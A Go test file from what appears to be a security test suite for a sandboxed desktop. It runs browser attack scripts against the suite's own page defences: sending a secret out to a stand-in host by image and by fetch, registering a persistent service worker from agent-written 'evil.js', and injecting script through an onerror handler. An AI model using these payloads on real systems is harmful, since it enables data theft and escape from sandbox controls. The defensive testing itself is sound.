package attack_test

import (
	"context"
	"fmt"
	"testing"
	"time"

	"choir.dev/choiros/internal/defence"
)

// desktopRows are attacks of the page of a real computer, as its host serves it: from the dev
// server in its box, under its policy.
var desktopRows = []Row{
	inDesktop(22, "its page sends data out with an image", `new Promise((r) => { const i = new Image(); i.onload = i.onerror = () => r('ended'); i.src = 'OUT/secret' })`, defence.ControlPolicy),
	inDesktop(22, "its page sends data out with a request", `fetch('OUT/secret', {mode: 'no-cors'}).then(() => 'sent', () => 'refused')`, defence.ControlPolicy),
	inDesktop(22, "its page keeps a service worker, to outlive a rewind", `navigator.serviceWorker.register('/src/evil.js').then(() => 'done', (e) => e.message)`, defence.ControlWorkers),
	inDesktop(25, "what a document holds runs as a script of its page", `new Promise((r) => {
		window.stolen = () => r('done')
		addEventListener('securitypolicyviolation', (e) => r('refused: ' + e.effectiveDirective))
		document.body.insertAdjacentHTML('beforeend', '<img src=data:, onerror="stolen()">') })`, defence.ControlPolicy),
}

// inDesktop makes a row of a script in the desktop's page. The attack works if the outside site was
// requested, or if the script reports that it succeeded.
func inDesktop(number int, attack, script string, defences ...defence.Name) Row {
	return Row{Number: number, Attack: "in a whole computer's desktop: " + attack, Defences: defences, Whole: true, Lacks: lacksBrowser, Run: func(t *testing.T) Verdict {
		v := newWholeVisitor(t)
		v.edit(t, outboxFile)
		v.put(t, "src/evil.js", "// what an agent wrote\n")
		v.desktopShows(t)
		got := v.inDesktop(t, v.outside.in(script))
		return Verdict{got == "done" || len(v.outside.seen()) > 0, fmt.Sprint(got, " ", v.outside.seen())}
	}}
}

// put writes a file of the desktop into the computer, unless it is there already.
func (v *wholeVisitor) put(t *testing.T, file, text string) {
	t.Helper()
	if edited[file] == text {
		return
	}
	ctx, cancel := context.WithTimeout(t.Context(), 4*time.Minute)
	defer cancel()
	r, err := v.RunInput(ctx, []byte(text), "files", "put", "-", "choiros/"+file)
	if err != nil || r.Code != 0 {
		t.Fatalf("put %s: %v: %s", file, err, r.Stderr)
	}
	edited[file] = text
}
